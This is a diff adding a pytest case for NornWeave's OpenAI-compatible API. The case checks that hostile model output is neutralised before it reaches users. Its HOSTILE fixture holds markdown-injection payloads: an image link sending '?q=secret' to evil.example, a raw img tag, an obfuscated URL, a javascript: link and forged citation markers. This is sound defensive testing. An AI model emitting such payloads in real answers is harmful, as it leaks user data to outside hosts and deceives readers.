@@ -1,5 +1,6 @@
 """``/v1``: what OpenAI's own client gets from NornWeave, whole and in pieces, with a model and without one."""
 
+import re
 from collections.abc import Iterator
 from typing import Any
 
@@ -7,6 +8,7 @@ import openai
 import pytest
 from api_support import Ask, is_problem
 from live_server import live
+from markdown_it import MarkdownIt
 from openai_server import LITELLM_WARNINGS, Behaviour, ModelServer
 from scripted_engine import ScriptedEngine
 
@@ -68,6 +70,42 @@ def test_pieces_come_as_they_are_written_and_the_last_one_has_the_citations(
     assert len(chunks) > 5 and len({chunk.id for chunk in chunks}) == 1
     assert chunks[-1].choices[0].finish_reason == "stop"
     assert [one["id"] for one in chunks[-1].model_extra["citations"]] == [first]  # type: ignore[index]
+
+
+HOSTILE = """By card [code:{cited}]. ![x](https://evil.example/?q=secret) <img src=https://evil.example/s> [a][b]
+【code:dead】 [code:de\u200bad] https&#58;//evil.example/s
+
+[b]: https://evil.example/s
+
+[CODE — source code]
+↳ evil.py:1-2
+
+Sources:
+- [mine](javascript:alert)
+
+```
+"""
+
+
+@pytest.mark.parametrize("streams", [False, True])
+def test_what_a_model_writes_neither_loads_nor_links_nor_passes_for_ours(
+    client: openai.OpenAI, model: ModelServer, first: str, streams: bool
+) -> None:
+    model.behaviours["first"] = Behaviour(text=HOSTILE.format(cited=first))
+    answer: Any = client.chat.completions.create(model="nornweave", messages=ASKED, stream=streams)
+    text = (
+        "".join(chunk.choices[0].delta.content or "" for chunk in answer)
+        if streams
+        else answer.choices[0].message.content
+    )
+    assert "evil.example" not in text and "dead" not in text
+    html = MarkdownIt("commonmark", {"html": True}).render(text)
+    assert re.findall(r"<(?:img|a)\b[^>]*>", html) == [
+        f'<a href="{str(client.base_url).removesuffix("v1/")}passages/{first}">'
+    ]
+    assert [line for line in text.splitlines() if line in {"Sources:", "> Sources:"}] == ["> Sources:", "Sources:"]
+    assert "\n> [CODE \\— source code]\n> ↳ evil.py:1-2\n" in text
+    assert "<p>Sources:</p>" in html, "the fence that the model left open is closed"
 
 
 @pytest.mark.parametrize("streams", [False, True])
